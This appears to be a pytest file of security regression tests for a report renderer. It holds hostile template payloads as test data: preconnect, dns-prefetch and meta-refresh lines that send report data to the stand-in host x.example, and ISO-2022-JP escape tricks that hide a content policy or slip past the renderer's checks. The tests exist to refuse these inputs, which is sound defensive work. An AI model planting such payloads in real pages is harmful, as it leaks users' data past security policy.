"""Red-team round 74 (security): what the report's content policy does not govern."""

from __future__ import annotations

from pathlib import Path

import pytest
from hostile_support import run
from test_hostile_round71 import SCRIPT, _one_line, _render

from advisor.report.render import connects_ahead

# each one made Chromium 150 resolve the host (and, for preconnect, open a TLS connection
# to it, its name in the handshake) when the report was opened, under the report's policy
AHEAD = [
    '<link rel="preconnect" href="https://d{{ report.source.command|length }}.x.example">',
    '<link rel="dns-prefetch" href="//d{{ report.source.command|length }}.x.example">',
    "<LINK REL=PRECONNECT HREF=https://x.example>",
    "<link rel='pre&#99;onnect' href='https://x.example'>",
    '<link\nrel\n=\n" dns&#x2d;prefetch " href="//x.example">',
    '<body><link rel="\tpreconnect\t" href="https://x.example"></body>',
]


@pytest.mark.parametrize("link", AHEAD)
def test_a_link_that_reaches_a_host_as_the_report_opens_is_refused(
    tmp_path: Path, link: str
) -> None:
    """Finding 1: the policy (default-src 'none') governs fetches; a <link rel=preconnect>
    or rel=dns-prefetch is not a fetch, so the opened report sent a host name the template
    built from the report's data to DNS and connected to it, with no click."""
    result = _render(tmp_path, f"<!doctype html><html><head>{link}</head><p>r</p></html>\n",
                     "-o", "r.html")  # fmt: skip
    _one_line(result, "t.html.j2", "preconnect", "dns-prefetch")
    assert not (tmp_path / "r.html").exists()


def test_links_the_policy_governs_and_the_words_in_text_are_kept(tmp_path: Path) -> None:
    kept = '<link rel="icon" href="data:,"><link rel="stylesheet" href="s.css">'
    result = _render(tmp_path, f"<!doctype html><head>{kept}</head><p>preconnect</p>\n")
    assert result.code == 0, result.err
    assert kept in result.out
    assert not connects_ahead("<p>we preconnect nothing; dns-prefetch is off</p>")
    assert connects_ahead("<link rel=preconnect href=//x>")


ESCAPED = [
    # ESC $ B in the doctype: the policy put after it was read as kanji, and the script ran
    f'<!doctype html\x1b$B><html><head>\x1b(B<meta charset="iso-2022-jp"></head>{SCRIPT}',
    # ESC ( B reads as nothing: 'refresh' and 'preconnect' to the browser, not to the checks
    '<!doctype html><meta charset="iso-2022-jp"><meta http-equiv="re\x1b(Bfresh" '
    'content="0; url=https://x.example/?d={{ report.source.command|urlencode }}">',
    '<!doctype html><meta http-equiv="Content-Type" content="text/html; charset=iso-2022-jp">'
    '<link rel="pre\x1b(Bconnect" href="https://d{{ report.source.command|length }}.x.example">',
    # made by the template rather than written in it
    '<!doctype html{{ "%c"|format(27) }}$B>' + SCRIPT,
]


@pytest.mark.parametrize("page", ESCAPED)
def test_an_escape_that_reads_the_policy_as_other_text_is_refused(
    tmp_path: Path, page: str
) -> None:
    """Finding 2: in a page read as ISO-2022-JP an escape switches the bytes after it to
    another character set; before the policy it hid the policy from Chromium (the
    template's script ran), and inside a value it hid a refresh or a preconnect from the
    advisor's checks (Chromium followed the refresh and resolved the host)."""
    result = _render(tmp_path, page + "\n", "-o", "r.html")
    _one_line(result, "t.html.j2", "U+001B", "ISO-2022-JP")
    assert not (tmp_path / "r.html").exists()
    plain = _render(tmp_path, '<!doctype html><meta charset="iso-2022-jp"><p>r</p>\n')
    assert plain.code == 0, plain.err  # the charset alone changes nothing: ASCII stays ASCII


@pytest.mark.parametrize("fmt", ["html", "markdown"])
@pytest.mark.parametrize("name", ["r.json", "r.JSON", "r.geojson", "r.json."])
def test_an_explicit_format_is_not_written_to_a_file_named_as_json(
    tmp_path: Path, fmt: str, name: str
) -> None:
    """Noticed in round 74: `--format html -o r.json` wrote an HTML page into a file every
    JSON reader then failed on (a template's output already could not be named .json)."""
    result = run("recommend", "--example", "student-starter", "--probes", "none",
                 "--format", fmt, "-o", name, cwd=tmp_path)  # fmt: skip
    _one_line(result, "--output", f"--format {fmt}", "--format json")
    assert not list(tmp_path.iterdir())
    kept = run("recommend", "--example", "student-starter", "--probes", "none",
               "--format", "json", "-o", "r.json", cwd=tmp_path)  # fmt: skip
    assert kept.code == 0, kept.err


def test_advisor_probe_writes_no_markdown_to_a_file_named_as_json(tmp_path: Path) -> None:
    """The same for `advisor probe`, refused before any probe runs."""
    result = run("probe", "--format", "markdown", "-o", "p.json", cwd=tmp_path)
    _one_line(result, "--output", "--format markdown", "--format json")
    assert not list(tmp_path.iterdir())
